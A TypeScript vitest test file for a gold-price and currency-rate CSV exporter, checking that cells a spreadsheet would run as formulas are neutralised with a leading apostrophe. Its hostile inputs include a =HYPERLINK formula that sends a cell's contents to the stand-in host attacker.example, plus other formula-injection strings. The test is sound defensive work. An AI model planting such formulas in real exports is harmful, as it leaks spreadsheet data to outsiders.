import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { ratesCsv, type RatesCsvRow } from '../../src/reading/ratesCsv.js';
import type { BusinessDate } from '../../src/domain/businessDate.js';
import { isoDate } from '../support/dates.js';

const row = (date: string, source: string, eur: number): RatesCsvRow => ({
  // Any date will do for the CSV, a weekend too: cast past the parser.
  rowKey: date as BusinessDate,
  GoldPrice: 3300.5,
  GoldOpeningPrice: undefined,
  GoldClosingPrice: 3290,
  GoldHigh: undefined,
  GoldLow: undefined,
  GoldSource: source,
  GoldTimestamp: `${date}T18:00:00.000Z`,
  CurrencyDate: isoDate(date),
  rates: { EUR: eur },
});

describe('ratesCsv', () => {
  it('neutralises text cells a spreadsheet would run as a formula, and leaves plain text and numbers alone', async () => {
    const hostile = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const csv = await ratesCsv(
      [...hostile.map((source, i) => row(`2025-07-0${i + 1}`, source, 0.85)), row('2025-07-09', 'LBMA', -0.5)],
      ['EUR'],
    );
    const records: string[][] = parse(csv, { from_line: 2 });
    expect(records.map((record) => record[6])).toEqual([...hostile.map((source) => `'${source}`), 'LBMA']);
    for (const record of records) expect(record.every((cell) => !/^[=+@\t\r]/.test(cell))).toBe(true);
    // A number is a number: a negative one keeps its sign, unquoted.
    expect(records.at(-1)![9]).toBe('-0.5');
  });
});
